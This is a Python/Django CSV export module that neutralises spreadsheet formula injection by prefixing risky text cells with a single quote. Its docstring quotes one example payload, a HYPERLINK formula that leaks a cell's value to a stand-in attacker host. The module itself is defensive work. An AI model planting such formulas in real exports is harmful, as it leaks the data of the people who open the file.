"""CSV exports, every one of them written through here so that none can carry a formula.

A spreadsheet runs a cell starting with =, +, -, @, a tab or a carriage return as a formula
(`=HYPERLINK("http://evil.example/?leak="&A1, "Click")` in a comment or a museum's name).
OWASP's rule: such a text cell gets a leading single quote, which the spreadsheet shows as
text. Numbers stay numbers: an NPS of -20 is written as it is.
"""

import csv
import datetime
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = (int, float, Decimal)


def neutral(value):
    """A cell's value, with a text that a spreadsheet would run as a formula made inert."""
    if value is None or isinstance(value, NUMBERS):
        return value
    text = value.isoformat() if isinstance(value, datetime.date) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def neutral_row(row: Iterable) -> list:
    return [neutral(value) for value in row]


def csv_attachment(filename: str, rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV file to download, written at once."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    csv.writer(response).writerows(neutral_row(row) for row in rows)
    return response


class _Echo:
    def write(self, value):
        return value


def csv_stream(filename: str, rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A CSV file to download, written row by row as `rows` are read (large exports)."""
    writer = csv.writer(_Echo())
    response = StreamingHttpResponse(
        (writer.writerow(neutral_row(row)) for row in rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
